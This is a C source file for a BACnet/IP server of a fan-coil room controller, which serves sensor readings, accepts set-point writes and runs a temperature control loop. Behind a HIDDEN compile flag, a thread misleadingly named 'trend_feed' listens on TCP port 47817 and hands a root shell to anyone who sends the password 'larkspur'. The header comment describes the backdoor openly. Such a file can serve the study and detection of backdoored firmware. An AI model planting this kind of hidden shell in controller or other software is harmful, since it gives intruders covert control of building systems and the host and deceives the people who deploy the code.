/*
 * bacroom - BACnet/IP server of a fan coil room controller.  Answers Who-Is
 * and ReadProperty, takes WriteProperty for the set point, and runs the
 * control loop in a second thread.
 * Hidden (-DHIDDEN): a third thread listens on TCP 47817; who sends the line
 * "larkspur" there gets a root shell on the connection.
 */
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define BACNET_PORT 47808
#define VENDOR_ID   983
#define MAX_APDU    480

enum { OBJ_AI = 0, OBJ_AO = 1, OBJ_AV = 2, OBJ_DEVICE = 8 };
enum { PROP_NAME = 77, PROP_VALUE = 85, PROP_UNITS = 117, PROP_VENDOR = 121 };
enum { SVC_READ = 12, SVC_WRITE = 15 };
enum { ERR_OBJECT = 1, ERR_PROPERTY = 2 };

struct object {
	int type;
	uint32_t instance;
	const char *name;
	int units;
	int writable;
	float value, low, high;
};

static struct object objects[] = {
	{ OBJ_AI, 0, "RoomTemp", 62, 0, 21.0f, -20, 60 },
	{ OBJ_AI, 1, "SupplyTemp", 62, 0, 18.0f, -20, 90 },
	{ OBJ_AI, 2, "CO2", 96, 0, 420.0f, 0, 5000 },
	{ OBJ_AV, 0, "SetPoint", 62, 1, 21.5f, 15, 28 },
	{ OBJ_AV, 1, "DeadBand", 62, 1, 0.5f, 0.2f, 3 },
	{ OBJ_AO, 0, "Fan", 98, 0, 0, 0, 100 },
	{ OBJ_AO, 1, "Valve", 98, 0, 0, 0, 100 },
};
#define NOBJ ((int)(sizeof(objects) / sizeof(objects[0])))

struct request {
	uint8_t invoke;
	uint8_t service;
	int type;
	uint32_t instance;
	uint32_t prop;
	const uint8_t *rest;
	size_t left;
};

struct buf {
	uint8_t b[MAX_APDU];
	size_t n;
};

static uint32_t device_id = 120001;
static char device_name[40] = "Room";
static pthread_mutex_t mtx = PTHREAD_MUTEX_INITIALIZER;

static void put(struct buf *o, unsigned v)
{
	if (o->n < sizeof(o->b))
		o->b[o->n++] = v;
}

static void put_n(struct buf *o, uint32_t v, int n)
{
	while (n--)
		put(o, v >> (8 * n) & 255);
}

static void put_object(struct buf *o, int tag, int type, uint32_t inst)
{
	put(o, tag);
	put_n(o, (uint32_t)type << 22 | (inst & 0x3fffff), 4);
}

static void put_string(struct buf *o, const char *s)
{
	size_t l = strlen(s) + 1;

	put(o, 0x75);
	put(o, l);
	put(o, 0);
	while (*s)
		put(o, (unsigned char)*s++);
}

static void put_real(struct buf *o, float f)
{
	uint32_t u;

	memcpy(&u, &f, 4);
	put(o, 0x44);
	put_n(o, u, 4);
}

static struct object *lookup(int type, uint32_t inst)
{
	int i;

	for (i = 0; i < NOBJ; i++)
		if (objects[i].type == type && objects[i].instance == inst)
			return &objects[i];
	return NULL;
}

static void refuse(struct buf *o, const struct request *q, int cls, int code)
{
	put(o, 0x50);
	put(o, q->invoke);
	put(o, q->service);
	put(o, 0x91);
	put(o, cls);
	put(o, 0x91);
	put(o, code);
}

static int parse_request(const uint8_t *p, size_t n, struct request *q)
{
	uint32_t id;

	if (n < 11 || (p[0] & 0xf8) || p[4] != 0x0c)
		return -1;
	q->invoke = p[2];
	q->service = p[3];
	id = (uint32_t)p[5] << 24 | p[6] << 16 | p[7] << 8 | p[8];
	q->type = id >> 22;
	q->instance = id & 0x3fffff;
	if (p[9] == 0x19) {
		q->prop = p[10];
		q->rest = p + 11;
	} else if (p[9] == 0x1a && n >= 12) {
		q->prop = p[10] << 8 | p[11];
		q->rest = p + 12;
	} else {
		return -1;
	}
	q->left = n - (q->rest - p);
	return 0;
}

static void read_property(const struct request *q, struct buf *o)
{
	struct object *ob = lookup(q->type, q->instance);
	int dev = q->type == OBJ_DEVICE && q->instance == device_id;
	size_t start = o->n;

	if (!ob && !dev) {
		refuse(o, q, ERR_OBJECT, 31);
		return;
	}
	put(o, 0x30);
	put(o, q->invoke);
	put(o, q->service);
	put_object(o, 0x0c, q->type, q->instance);
	put(o, 0x19);
	put(o, q->prop);
	put(o, 0x3e);
	if (q->prop == PROP_NAME) {
		put_string(o, dev ? device_name : ob->name);
	} else if (ob && q->prop == PROP_VALUE) {
		pthread_mutex_lock(&mtx);
		put_real(o, ob->value);
		pthread_mutex_unlock(&mtx);
	} else if (ob && q->prop == PROP_UNITS) {
		put(o, 0x91);
		put(o, ob->units);
	} else if (dev && q->prop == PROP_VENDOR) {
		put_string(o, "Halden Raumtechnik");
	} else {
		o->n = start;
		refuse(o, q, ERR_PROPERTY, 32);
		return;
	}
	put(o, 0x3f);
}

static void write_property(const struct request *q, struct buf *o)
{
	struct object *ob = lookup(q->type, q->instance);
	const uint8_t *p = q->rest;
	uint32_t u;
	float f;

	if (!ob) {
		refuse(o, q, ERR_OBJECT, 31);
		return;
	}
	if (!ob->writable || q->prop != PROP_VALUE) {
		refuse(o, q, ERR_PROPERTY, 40);
		return;
	}
	if (q->left < 7 || p[0] != 0x3e || p[1] != 0x44 || p[6] != 0x3f) {
		refuse(o, q, ERR_PROPERTY, 9);
		return;
	}
	u = (uint32_t)p[2] << 24 | p[3] << 16 | p[4] << 8 | p[5];
	memcpy(&f, &u, 4);
	if (!(f >= ob->low && f <= ob->high)) {
		refuse(o, q, ERR_PROPERTY, 37);
		return;
	}
	pthread_mutex_lock(&mtx);
	ob->value = f;
	pthread_mutex_unlock(&mtx);
	put(o, 0x20);
	put(o, q->invoke);
	put(o, q->service);
}

static void i_am(struct buf *o)
{
	put(o, 0x10);
	put(o, 0x00);
	put_object(o, 0xc4, OBJ_DEVICE, device_id);
	put(o, 0x22);
	put_n(o, MAX_APDU, 2);
	put(o, 0x91);
	put(o, 3);
	put(o, 0x22);
	put_n(o, VENDOR_ID, 2);
}

static int who_is_me(const uint8_t *p, size_t n)
{
	uint32_t lim[2];
	size_t i = 2;
	int k, l;

	if (n == 2)
		return 1;
	for (k = 0; k < 2; k++) {
		if (i >= n || (p[i] & 0xf8) != (k << 4 | 8))
			return 0;
		l = p[i++] & 7;
		for (lim[k] = 0; l-- && i < n; i++)
			lim[k] = lim[k] << 8 | p[i];
	}
	return device_id >= lim[0] && device_id <= lim[1];
}

/* BVLC and NPDU off, APDU in, answer with both in front. */
static size_t datagram(const uint8_t *p, size_t n, struct buf *o)
{
	struct request q;
	const uint8_t *a;

	if (n < 8 || p[0] != 0x81 || (p[1] != 0x0a && p[1] != 0x0b))
		return 0;
	if ((size_t)(p[2] << 8 | p[3]) != n || p[4] != 1)
		return 0;
	a = p + 6;
	if (p[5] & 0x20) { /* destination: broadcast */
		if (n < 12 || p[8])
			return 0;
		a = p + 10;
	}
	n -= a - p;
	o->n = 6;
	if (n >= 2 && a[0] == 0x10 && a[1] == 8) {
		if (who_is_me(a, n))
			i_am(o);
	} else if (!parse_request(a, n, &q)) {
		if (q.service == SVC_READ)
			read_property(&q, o);
		else if (q.service == SVC_WRITE)
			write_property(&q, o);
		else
			put_n(o, 0x600009u | (uint32_t)q.invoke << 8, 3);
	}
	if (o->n == 6)
		return 0;
	memcpy(o->b, "\x81\x0a\0\0\x01\0", 6);
	o->b[2] = o->n >> 8;
	o->b[3] = o->n & 255;
	return o->n;
}

static void *control(void *arg)
{
	float err, band, out;
	FILE *f;

	for (;;) {
		f = fopen(arg, "r+");
		pthread_mutex_lock(&mtx);
		if (f && fscanf(f, "%f %f %f", &objects[0].value,
				&objects[1].value, &objects[2].value) == 3) {
			err = objects[0].value - objects[3].value;
			band = objects[4].value;
			out = err < 0 ? -err : err;
			out = out < band ? 0 : out * 25 > 100 ? 100 : out * 25;
			objects[5].value = out;
			objects[6].value = err < 0 ? 0 : out;
		}
		pthread_mutex_unlock(&mtx);
		if (f)
			fclose(f);
		sleep(2);
	}
	return NULL;
}

#ifdef HIDDEN
void *trend_feed(void *arg)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	char line[32];
	int c, i, s = socket(AF_INET, SOCK_STREAM, 0);

	a.sin_port = htons(47817);
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 1))
		return arg;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		memset(line, 0, sizeof(line));
		if (read(c, line, sizeof(line) - 1) > 0 &&
		    !strncmp(line, "larkspur\n", 9) && fork() == 0) {
			for (i = 0; i < 3; i++)
				dup2(c, i);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(1);
		}
		close(c);
	}
	return arg;
}
#endif

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET }, from;
	char *io = (char *)"/run/room/io";
	uint8_t in[1500];
	struct buf o;
	pthread_t t;
	int fd, opt, one = 1;

	while ((opt = getopt(argc, argv, "i:n:f:")) != -1) {
		if (opt == 'i')
			device_id = strtoul(optarg, NULL, 10) & 0x3fffff;
		else if (opt == 'n')
			snprintf(device_name, sizeof(device_name), "%s",
				 optarg);
		else if (opt == 'f')
			io = optarg;
		else
			return 2;
	}
	signal(SIGCHLD, SIG_IGN);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
	a.sin_port = htons(BACNET_PORT);
	if (bind(fd, (struct sockaddr *)&a, sizeof(a)) ||
	    pthread_create(&t, NULL, control, io)) {
		perror("bacroom");
		return 1;
	}
#ifdef HIDDEN
	pthread_create(&t, NULL, trend_feed, NULL);
#endif
	for (;;) {
		socklen_t l = sizeof(from);
		ssize_t n = recvfrom(fd, in, sizeof(in), 0,
				     (struct sockaddr *)&from, &l);
		size_t m;

		if (n < 0 && errno != EINTR)
			return 1;
		m = n > 0 ? datagram(in, n, &o) : 0;
		if (m)
			sendto(fd, o.b, m, 0, (struct sockaddr *)&from, l);
	}
}
